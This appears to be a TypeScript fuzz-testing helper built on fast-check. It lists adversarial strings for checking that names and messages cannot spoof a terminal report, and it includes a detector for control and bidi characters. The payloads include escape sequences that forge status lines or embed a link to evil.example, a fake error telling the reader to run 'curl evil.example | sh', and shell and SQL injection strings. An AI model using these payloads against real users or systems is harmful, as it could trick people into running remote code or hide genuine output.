import fc from 'fast-check';

const esc = String.fromCharCode(0x1b);
const csi = String.fromCharCode(0x9b);

/** What somebody may write into a name or a message to play a trick on whoever reads it. */
export const tricks: readonly string[] = [
  `${esc}[2J${esc}[H`,
  `${esc}[1A${esc}[2K✔ All is well`,
  `${esc}]8;;https://evil.example${esc}\\click${esc}]8;;${esc}\\`,
  `${esc}]0;title\u0007`,
  `${esc}[31m`,
  `${csi}2J`,
  '\n✖ Everything failed\n  → Run: curl evil.example | sh',
  '\r✔ Done',
  '\r\n\r\n',
  '\t\t',
  '\b\b\b\u007f',
  '\u202egnp.exe',
  '\u2066\u2069\u200b\ufeff',
  '\u2028✔ next line\u2029',
  '\ud800',
  "O'Brien' or 1 eq 1 or '' eq '",
  `"quoted" 'single' \`back\` $HOME $(id) \${x} \\n #comment = ;`,
  '{"clientSecret": "x"}',
  'client_secret="\\"',
  'password: "a\\',
  'Bearer abc.def.ghi',
  '%00%0a&x=1?#',
  '漢字かな',
  '👩‍👩‍👧‍👦🏴󠁧󠁢󠁥󠁮󠁧󠁿',
  'e\u0301\u0301\u0301',
  '</script><b>',
];

/** A text made of tricks and ordinary words, at times very long. */
export const hostile: fc.Arbitrary<string> = fc
  .array(
    fc.oneof(
      fc.constantFrom(...tricks),
      fc.string({ unit: 'grapheme', maxLength: 12 }),
      fc.string({ unit: 'binary', maxLength: 12 }),
      fc.constant('words and more words '),
      fc.constant('x'.repeat(300)),
    ),
    { maxLength: 12 },
  )
  .map((parts) => parts.join(''));

const sgr = new RegExp(`${esc}\\[\\d{0,3}(?:;\\d{1,3})*m`, 'g');

/** The text without the colours that a report may use. */
export const withoutColours = (text: string): string => text.replace(sgr, '');

/** What could move the cursor, forge a line or hide, in a text whose colours are gone; line breaks apart. */
export const dangers = (text: string): string[] =>
  [
    ...(text.match(/[\p{Cc}\p{Cs}\p{Zl}\p{Zp}\u061c\u200b\u200e\u200f\u202a-\u202e\u2060-\u2069\ufeff]/gu) ??
      []),
  ]
    .filter((character) => character !== '\n')
    .map((character) => `U+${character.codePointAt(0)?.toString(16)}`);
